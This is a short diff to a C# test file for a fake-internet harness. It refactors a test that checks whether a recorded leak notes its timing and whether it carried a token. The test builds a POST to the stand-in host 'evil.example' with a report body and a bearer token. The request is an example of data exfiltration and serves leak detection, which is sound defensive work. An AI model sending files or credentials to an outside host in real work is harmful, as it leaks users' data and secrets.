@@ -48,7 +48,8 @@ public sealed class FakeInternetTests : IDisposable
     public async Task A_leak_says_when_it_happened_and_whether_it_carried_a_token()
     {
         _clock.Advance(TimeSpan.FromSeconds(5));
-        using var request = new HttpRequestMessage(HttpMethod.Post, "https://evil.example/v3/x") { Content = new StringContent("周报", Encoding.UTF8) };
+        using var request = new HttpRequestMessage(HttpMethod.Post, "https://evil.example/v3/x");
+        request.Content = new StringContent("周报", Encoding.UTF8);
         request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", "secret");
         using var answer = await _http.SendAsync(request, Cancel);
 
